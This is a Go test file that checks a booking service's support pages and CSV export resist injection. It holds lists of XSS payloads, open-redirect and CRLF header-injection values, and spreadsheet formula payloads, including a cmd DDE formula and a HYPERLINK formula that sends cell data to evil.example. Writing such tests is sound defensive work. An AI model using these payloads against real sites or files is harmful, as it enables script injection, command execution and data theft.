package main

import (
	"encoding/csv"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"slices"
	"strings"

	"github.com/google/uuid"
	"github.com/stretchr/testify/require"
)

// markup are texts that a page which does not see to it would take for its own. What they would load is below a path of theirs.
func markup() []string {
	return []string{
		`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `'><svg onload=alert(1)>`, `</textarea><script>alert(1)</script>`, `</title><script>alert(1)</script>`,
		`</style><script>alert(1)</script>`, `--><script>alert(1)</script>`, `]]><script>alert(1)</script>`, `javascript:alert(1)`, `" onfocus="alert(1)" autofocus="`,
		`' onclick='alert(1)`, "` onclick=alert(1)", `<a href="javascript:alert(1)">x</a>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<base href="https://evil.example/">`,
		`<meta http-equiv="refresh" content="0;url=https://evil.example">`, `<form action="https://evil.example"><button>x`, `<div hx-get="/` + planted + `" hx-trigger="load">`,
		`<div data-hx-post="/` + planted + `" hx-trigger="load">`, `<style>*{display:none}</style>`, `<link rel=stylesheet href=https://evil.example>`, `<x onclick=alert(1)>`,
		`&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;`, `data:text/html,<script>alert(1)</script>`, `{{.Caller.Name}}`, `{{template "main" .}}`, `<!--`,
		`<a href="/` + planted + `">your session has ended: sign in</a>`, `<math><mi xlink:href="data:x,<script>alert(1)</script>">`, `\u003cscript\u003ealert(1)`,
	}
}

// shown checks that a page has a text, and has it as text: whatever else it were made into is found by whoever opened the page.
func (g *guard) shown(where string, a answer, text string) {
	g.Helper()
	g.counted()
	require.Contains(g.T, plainText(g, a.body), text, "%s: %d", where, a.status)
}

// scriptsInTexts stores markup wherever a booking and its history take a text, and opens every page that shows it.
func scriptsInTexts(g *guard) {
	f := fortify(g, "")
	sue, vera := f.signIn(f.keys["sue"]), f.signIn(f.keys["vera"])
	for _, text := range markup() {
		body := order{offer: "sim_fee"}.json()
		for at, name := range map[*[]any]string{{}: "client_reference", {"stay"}: "hotel_name", {"stay", "rooms", 0}: "special_requests", {"attribution"}: "click_id"} {
			body = with(f, body, *at, name, text)
		}
		b := f.call("POST", "/v1/bookings", f.keys["web"], body, "Idempotency-Key", uuid.NewString()).is(http.StatusAccepted).booking()
		f.call("POST", "/v1/support/bookings/"+b.ID+"/actions/note", f.keys["ada"], `{"reason":`+quoted(text)+`}`).is(http.StatusAccepted)
		g.shown("the list", sue.get("/support?status="+b.Status+"&status=processing&status=pending&status=confirmed"), text)
		found := sue.get("/support?q=" + url.QueryEscape(b.Reference))
		g.equal(http.StatusSeeOther, found.status)
		for name, c := range map[string]*clerk{"a supervisor": sue, "a viewer": vera} {
			page := c.get(found.header.Get("Location")).is(http.StatusOK)
			g.shown("the booking, to "+name, page, text)
		}
		a := sue.post("/support/pauses", url.Values{"what": {"pool:tracking"}, "to": {"pause"}, "reason": {text}})
		g.equal(http.StatusSeeOther, a.status, text)
		g.shown("the overview", vera.get("/support/overview").is(http.StatusOK), text)
		g.shown("what a pause is asked for", sue.get("/support/pauses?what=pool:tracking").is(http.StatusOK), text)
		mistaken := sue.act(b, "note", url.Values{"reason": {text + "\x00"}})
		g.equal(http.StatusUnprocessableEntity, mistaken.status)
		g.shown("a form that is shown again", mistaken, text)
	}
}

// scriptsInAddresses has each page show again what its address says.
func scriptsInAddresses(g *guard) {
	f := fortify(g, "", withProvider, briefStreams)
	b := f.atRest(order{})
	sue := f.signIn(f.keys["sue"])
	echoed := 0
	for route, p := range pagePolicies() {
		method, path := p.page(route, b)
		if method != http.MethodGet || p.kind == "stream" {
			continue
		}
		path, _, _ = strings.Cut(path, "?")
		for _, name := range strings.Fields(p.query) {
			for _, text := range markup() {
				a := sue.get(path + "?" + name + "=" + url.QueryEscape(text))
				g.holds((a.status < 500 || a.status == p.status) && cookieOf(a) == nil, "%s?%s=%q: %d", path, name, text, a.status)
				if a.isHTML() && strings.Contains(plainText(g, a.body), text) {
					echoed++
				}
				part := sue.fragment(path + "?" + name + "=" + url.QueryEscape(text))
				g.holds(part.status < 500 || part.status == p.status, "%s?%s=%q: %d", path, name, text, part.status)
			}
		}
	}
	g.holds(echoed > 100, "only %d texts were shown again: what was tried?", echoed)
	for _, text := range markup() {
		for _, path := range []string{"/" + url.PathEscape(text), "/support/" + url.PathEscape(text), "/support/bookings/" + url.PathEscape(text), "/assets/" + url.PathEscape(text)} {
			a := sue.get(path)
			g.holds(a.status == http.StatusNotFound || a.status == http.StatusSeeOther && strings.HasPrefix(a.header.Get("Location"), "/support"), "%s: %d", path, a.status)
		}
		a := (&clerk{f: f}).post(signInAddress, url.Values{"key": {text}, "next": {text}})
		g.equal([]any{http.StatusUnauthorized, ""}, []any{a.status, a.header.Get("Set-Cookie")}, text)
	}
}

// scriptsOfVendors has a supplier and a payment provider whose numbers and codes are markup.
func scriptsOfVendors(g *guard) {
	const text = `<img src=x onerror=alert(1)>`
	sandbox := sandboxProcess(g.T, "BOOKING_SANDBOX__LATENCY=0")
	target, err := url.Parse(sandbox)
	require.NoError(g.T, err)
	reverse := &httputil.ReverseProxy{
		Rewrite: func(r *httputil.ProxyRequest) { r.SetURL(target) },
		ModifyResponse: func(response *http.Response) error {
			body, err := io.ReadAll(response.Body)
			if err != nil {
				return err
			}
			changed := string(body)
			for _, name := range []string{"code", "message", "hotel_confirmation", "decline_code", "brand", "last4"} {
				changed = member(name, text)(response, changed)
			}
			response.Body, response.ContentLength = io.NopCloser(strings.NewReader(changed)), int64(len(changed))
			response.Header.Set("Content-Length", fmt.Sprint(len(changed)))
			return nil
		},
	}
	proxy := httptest.NewServer(reverse)
	g.Cleanup(proxy.Close)
	f := fortify(g, "", func(cfg *Config) { cfg.Sandbox.URL = proxy.URL })
	sue := f.signIn(f.keys["sue"])
	opened := 0
	for _, o := range []order{{offer: "sim_fee"}, {offer: "sim_sold_out_check"}, {card: "pm_card_chargeDeclined"}, {email: "ana+reject@example.com"}, {offer: "sim_sold_out_book"}} {
		b := f.submit(o)
		f.until(b.ID, func(b bookingView) bool {
			return b.Terminal || b.Status == "requires_action" || b.Status == "in_review" || b.Version > 8
		})
		a := sue.get("/support/bookings/" + b.ID).is(http.StatusOK)
		if strings.Contains(plainText(g, a.body), text) {
			opened++
		}
	}
	list := sue.get("/support").is(http.StatusOK)
	g.has("the list", plainText(g, list.body), "Hotel Sol")
	g.holds(opened > 0, "nothing of what the vendors said was shown: what was tried?")
}

// formulas come as names and references, and go out in a file that spreadsheets open.
func formulas(g *guard) {
	f := fortify(g, "")
	texts := []string{
		"=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "\t=1", "\r=1", "\n=1", " =1", "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")", "＝1+1", "＋1", "－1", "＠SUM(1)",
		"a\n=1+1", "a\r\n=1+1", "a\",=1+1", "a,=1+1", "a;=1+1", "a;\"=1+1", "a\t=1+1", "a; =1+1", "'=1", "\"=1+1\"", "\u200d=1",
	}
	taken := 0
	for _, text := range texts {
		for at, name := range map[*[]any]string{{}: "client_reference", {"stay"}: "hotel_name"} {
			a := f.call("POST", "/v1/bookings", f.keys["web"], with(f, order{}.json(), *at, name, text), "Idempotency-Key", uuid.NewString())
			g.holds(a.status == http.StatusAccepted || a.status == http.StatusUnprocessableEntity, "%s: %d", a.body, a.status)
			if a.status == http.StatusAccepted {
				taken++
			}
		}
	}
	g.holds(taken >= 20, "only %d texts were taken", taken)
	file := f.signIn(f.keys["vera"]).get("/support/bookings.csv").is(http.StatusOK)
	g.equal([]string{"text/csv; charset=utf-8; header=present", "nosniff", "no-store"},
		[]string{file.header.Get("Content-Type"), file.header.Get("X-Content-Type-Options"), file.header.Get("Cache-Control")})
	g.holds(strings.HasPrefix(file.header.Get("Content-Disposition"), `attachment; filename="bookings-`), "a file is saved, and not shown: %s", file.header.Get("Content-Disposition"))
	g.lacks("the file", string(file.body), "Núñez", "ana@", "600000000", "pm_card", "bks_")
	rows, err := csv.NewReader(strings.NewReader(string(file.body))).ReadAll()
	require.NoError(g.T, err)
	g.equal(taken+1, len(rows))
	for _, row := range rows {
		for _, cell := range row {
			g.holds(!formula(cell), "%q runs in a spreadsheet", cell)
		}
	}
	for line := range strings.Lines(string(file.body)) { // as those take it where a comma is part of numbers
		for _, cell := range strings.FieldsFunc(line, func(r rune) bool { return r == ';' || r == '\t' || r == '\n' || r == '\r' }) {
			g.holds(!formula(strings.Trim(cell, `" `)), "%q runs in a spreadsheet that parts by semicolons or tabs: %q", cell, line)
		}
	}
}

func formula(cell string) bool {
	return cell != "" && slices.Contains([]rune("=+-@\t\r＝＋－＠"), []rune(cell)[0])
}

// waysOut are addresses to which a page to sign in on could send whoever trusts it.
func waysOut(g *guard) {
	f := fortify(g, "", withProvider)
	for _, next := range []string{
		"https://evil.example", "//evil.example", "///evil.example", "////evil.example", "/\\evil.example", "\\\\evil.example", "/support\\..\\..\\evil", "https:evil.example", "https:/evil.example",
		"javascript:alert(1)", "data:text/html,x", "/support@evil.example", "/supportevil", "/support.evil.example", "http://127.0.0.1/support", "//127.0.0.1/support", "/support/../docs",
		"/support/..//evil.example", "/support/%2e%2e/docs", "/support/..%2f..%2fevil", "/support//evil.example", "/./support", "support", "?next=//evil.example", "#x", "/", "/v1/bookings",
		"/support\r\nSet-Cookie: s=1", "/support%0d%0aSet-Cookie:%20s=1", "/support\x00", "\t//evil.example", " //evil.example", "/\t/evil.example", "/support?x=\r\nLocation: //evil.example",
		"https://evil.example/support", "user@/support", "//user:pass@/support", "/support/sign-in?next=//evil.example", "///support", "/%2f/evil.example", "/support;//evil.example", "\u2028//evil.example",
	} {
		a := (&clerk{f: f}).post(signInAddress, url.Values{"key": {f.keys["sue"]}, "next": {next}})
		g.equal([]any{http.StatusSeeOther, 1}, []any{a.status, len(a.header.Values("Set-Cookie"))}, "%q: %s", next, a.body)
		to := a.header.Get("Location")
		resolved, err := url.Parse("https://booking.example/support/sign-in")
		require.NoError(g.T, err)
		resolved, err = resolved.Parse(to)
		require.NoError(g.T, err, to)
		g.holds(ownAddress(to) && resolved.Host == "booking.example" && (resolved.Path == "/support" || strings.HasPrefix(resolved.Path, "/support/")), "%q leads to %q", next, to)
		g.lacks(next, fmt.Sprint(a.header), "\r", "\n")
		page := (&clerk{f: f}).get(signInAddress + "?next=" + url.QueryEscape(next))
		g.holds(page.status == http.StatusOK || page.status == http.StatusBadRequest, "%q: %d", next, page.status)
	}
	for _, page := range []string{"/support?q=x", "/support?status=failed&status=pending", "/support/bookings.csv", "/support/bookings/" + uuid.NewString()} {
		sent := (&clerk{f: f}).get(page)
		g.equal(http.StatusSeeOther, sent.status, page)
		asked, err := url.Parse(sent.header.Get("Location"))
		require.NoError(g.T, err)
		back := (&clerk{f: f}).post(asked.Path, url.Values{"key": {f.keys["sue"]}, "next": {asked.Query().Get("next")}})
		g.equal(page, back.header.Get("Location"), "whoever signs in comes back to where they wanted to go")
	}
}
